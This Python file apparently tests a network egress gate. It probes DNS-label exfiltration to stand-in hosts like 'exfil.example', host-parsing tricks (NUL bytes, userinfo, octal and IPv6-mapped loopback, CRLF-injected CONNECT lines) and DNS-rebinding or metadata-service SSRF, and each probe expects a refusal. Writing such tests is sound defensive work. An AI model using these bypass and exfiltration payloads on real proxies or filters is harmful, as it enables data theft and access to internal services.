# SPDX-License-Identifier: Apache-2.0
"""N3, N4, N7: names that carry something out, names that two readers read differently, names that lead inwards."""

import os
import socket
import struct

from probe import *

NOT_FOUND = {"gate": ["no such name", "not asked"]}
DENIED = {"gate": ["403 host", "403 name", "400 malformed", "SOCKS 2", "closed"]}


def query(name, kind):
    labels = b"".join(bytes([len(label)]) + label for label in name)
    return os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", kind, 1)


def ask(name, kind=1, server="127.0.0.53", stream=False):
    """Asks a name server. Whether it passed the question on, its own server says."""
    name = [label.encode() for label in name.split(".")] if isinstance(name, str) else name
    data = query(name, kind)
    with socket.socket(type=socket.SOCK_STREAM if stream else socket.SOCK_DGRAM) as end:
        end.settimeout(2)
        end.connect((server, 53))
        end.sendall(struct.pack(">H", len(data)) + data if stream else data)
        reply = end.recv(512)[2 if stream else 0:]
    if not reply:
        raise Refused("closed")
    code, count = reply[3] & 15, int.from_bytes(reply[6:8], "big")
    raise Refused("not asked" if code or not count else "answered")


# ---- N3: the question is the message

for number, kind in (
    ("a", 1),
    ("aaaa", 28),
    ("txt", 16),
    ("cname", 5),
    ("mx", 15),
    ("https", 65),
    ("null", 10),
    ("any", 255),
):

    @probe(
        f"N3.label-{number}", f"ask the name server for {number.upper()} of a name that carries something", **NOT_FOUND
    )
    def _(kind=kind, label=f"n3-label-{number}"):
        ask(f"{label}.c2vjcmv0.exfil.example", kind)


@probe("N3.below-allowed", "carry it in a label below the allowed name", **NOT_FOUND)
def _():
    ask(f"n3-below-allowed.{ALLOWED}")


@probe("N3.above-allowed", "carry it in a zone that begins like the allowed name", **NOT_FOUND)
def _():
    ask(f"{ALLOWED}.n3-above-allowed.example")


@probe("N3.internal", "carry it below the gate's own name", **NOT_FOUND)
def _():
    ask("n3-internal.remit.internal")


@probe("N3.stream", "ask by TCP", **NOT_FOUND)
def _():
    ask("n3-stream.exfil.example", stream=True)


@probe("N3.lookup", "look it up as programs do", gate=["no such name"])
def _():
    socket.getaddrinfo("n3-lookup.exfil.example", 443)


@probe("N3.reverse", "ask for the name of an address", gate=["no such name", "answers the address"])
def _():
    name, _ = socket.getnameinfo(("7.8.9.10", 443), 0)
    raise Refused("answers the address" if name == "7.8.9.10" else name)


@probe("N3.reverse-zone", "carry it in the zone of reverse look-ups", **NOT_FOUND)
def _():
    ask("n3-reverse-zone.7.8.9.in-addr.arpa", 12)


@probe("N3.connect", "have the proxy look it up: CONNECT", gate=["403 host"])
def _():
    return fetch(connect("n3-connect.exfil.example"), "/")


@probe("N3.absolute", "have the proxy look it up: a request with a whole URL", gate=["403 host"])
def _():
    with tcp(*PROXY) as end:
        name = f"n3-absolute.exfil.example:{PORT}"
        return fetch(end, f"http://{name}/", name)


@probe("N3.socks", "have the proxy look it up: SOCKS", gate=["SOCKS 2"])
def _():
    return fetch(socks("n3-socks.exfil.example"), "/")


@probe("N3.resolve", "ask SOCKS to resolve it, as Tor's do", gate=["SOCKS 2", "SOCKS 7"])
def _():
    return fetch(socks("n3-resolve.exfil.example", command=0xF0), "/") if PARAMS["inside"] else fetch(
        socks("n3-resolve.exfil.example"), "/")


@probe("N3.server-name", "carry it in the server name of a hello for the allowed host", gate=["closed"])
def _():
    return fetch(secure(tcp(ALLOWED), "n3-server-name.exfil.example"), "/")


# ---- N4: one name, two readers. Each is not allowed, in a shape that some readers take for the allowed one.

SHAPES = {
    "nul": OTHER.encode() + b"\0." + ALLOWED.encode(),
    "percent-nul": OTHER.encode() + b"%00." + ALLOWED.encode(),
    "userinfo": ALLOWED.encode() + b"@" + OTHER.encode(),
    "fragment": OTHER.encode() + b"#." + ALLOWED.encode(),
    "slash": OTHER.encode() + b"/." + ALLOWED.encode(),
    "question": OTHER.encode() + b"?." + ALLOWED.encode(),
    "upper-case": OTHER.upper().encode(),
    "dot": OTHER.encode() + b".",
    "octal": b"0177.0.0.1", "decimal": b"2130706433", "hexadecimal": b"0x7f.0.0.1", "short": b"127.1",
    "address": b"127.0.0.1", "any": b"0.0.0.0", "any6": b"[::]", "loopback6": b"[::1]",
    "mapped": b"[::ffff:127.0.0.1]", "mapped-hexadecimal": b"[::ffff:7f00:1]", "translated": b"[64:ff9b::a9fe:a9fe]",
    "localhost": b"localhost", "wide": "\uff11\uff12\uff17\u30020\u30020\u30021".encode(),
    "wide-dot": OTHER.replace(".", "\u3002").encode(), "below-wildcard-nul": OTHER.encode() + b"\0.a.wild.example",
    "wildcard-itself": b"wild.example",
}
for shape, text in SHAPES.items():
    @probe(f"N4.connect-{shape}", f"CONNECT {text.decode(errors='replace')!r}",
           gate=["403 host", "400 malformed", "403 address"])
    def _(shape=shape, text=text):
        return fetch(connect(text), f"/N4.connect-{shape}")

    @probe(f"N4.socks-{shape}", f"SOCKS to {text.decode(errors='replace')!r}", gate=["SOCKS 1", "SOCKS 2"])
    def _(shape=shape, text=text):
        return fetch(socks(text), f"/N4.socks-{shape}")


@probe("N4.connect-lines", "CONNECT with a line break in the name", gate=["400 malformed"])
def _():
    end = tcp(*PROXY)
    end.sendall(f"CONNECT {OTHER}:{PORT}\r\nHost: {ALLOWED}:{PORT}\r\n\r\n".encode())
    return answer(end) if PARAMS["inside"] else fetch(connect(OTHER), "/N4.connect-lines")


@probe(
    "N4.connect-host-field", "CONNECT to the one, with the other in the field Host", gate=["403 host", "400 malformed"]
)
def _():
    end = ask_proxy(f"CONNECT {OTHER}:{PORT} HTTP/1.1\r\nHost: {ALLOWED}:{PORT}\r\n\r\n".encode())
    return fetch(end, "/N4.connect-host-field")


@probe("N4.absolute-host-field", "a whole URL of the one, with the other in the field Host",
       gate=["403 host", "400 malformed", "421 authority"])
def _():
    with tcp(*PROXY) as end:
        return fetch(end, f"http://{OTHER}:{PORT}/N4.absolute-host-field")


@probe("N4.label-nul", "ask for a name whose label hides a NUL", gate=["not asked"])
def _():
    other, allowed = OTHER.split("."), ALLOWED.split(".")
    labels = [*(part.encode() for part in other[:-1]), b"n4-label-nul\0" + allowed[0].encode()]
    ask([*labels, *(part.encode() for part in allowed[1:])])


@probe("N4.label-dot", "ask for a name one of whose labels holds dots", gate=["not asked"])
def _():
    ask([b"n4-label-dot." + ALLOWED.encode()])


# ---- N7: what is allowed, and leads inwards

for label in PARAMS["leading"]:

    @probe(
        f"N7.name-{label}", f"reach an allowed name that resolves to {PARAMS['leading'][label]}", gate=["403 address"]
    )
    def _(label=label):
        with tcp(f"{label}.leads.example", 80) as end:
            return fetch(end, f"/N7.name-{label}", f"{label}.leads.example")

    @probe(f"N7.connect-{label}", f"the same by CONNECT: {PARAMS['leading'][label]}", gate=["403 address"])
    def _(label=label):
        return fetch(connect(f"{label}.leads.example", 80), f"/N7.connect-{label}", f"{label}.leads.example")


def reached(name):
    """Where several connections to a name arrive."""
    found = set()
    for _ in range(6):
        with tcp(name, 80) as end:
            end.sendall(request("/?echo=address", name))
            head = read_head(end)
            found.add(read_rest(end, head).decode() if head else "closed")
    raise Refused("the public one" if found == {PARAMS["public"]} else f"through: {sorted(found)}")


@probe("N7.rebound", "reach a name that resolved to a public address, and now to the loopback", gate=["the public one"])
def _():
    reached("rebound.leads.example")


@probe("N7.mixed", "reach one that resolves to the metadata service and a public address", gate=["the public one"])
def _():
    reached("mixed.leads.example")


for name, text in (
    ("metadata", PARAMS["metadata"]),
    ("private", PARAMS["private"]),
    ("any", "0.0.0.0"),
    ("any6", "[::]"),
):
    @probe(f"N7.literal-{name}", f"have the proxy go to {text}", gate=["403 host", "403 address"])
    def _(name=name, text=text):
        return fetch(connect(text, 80), f"/N7.literal-{name}")


run()
